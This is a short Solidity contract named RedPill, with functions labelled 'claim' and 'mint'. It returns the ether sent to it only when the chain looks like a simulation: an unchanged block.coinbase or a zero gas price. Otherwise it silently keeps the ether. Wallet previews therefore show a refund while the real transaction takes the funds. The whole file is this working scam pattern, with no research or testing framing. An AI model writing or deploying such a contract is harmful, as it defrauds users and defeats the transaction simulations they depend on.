// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// Pays back what it is given while the block looks like a simulation's, and keeps it otherwise.
contract RedPill {
    address private immutable usual;

    constructor() {
        usual = block.coinbase;
    }

    function claim() external payable {
        if (block.coinbase != usual) return;
        (bool paid, ) = msg.sender.call{value: msg.value}("");
        require(paid, "unpaid");
    }

    /// The same, told by a gas price of nothing.
    function mint() external payable {
        if (tx.gasprice > 0) return;
        (bool paid, ) = msg.sender.call{value: msg.value}("");
        require(paid, "unpaid");
    }

    function fail() external pure {
        revert("closed today");
    }
}
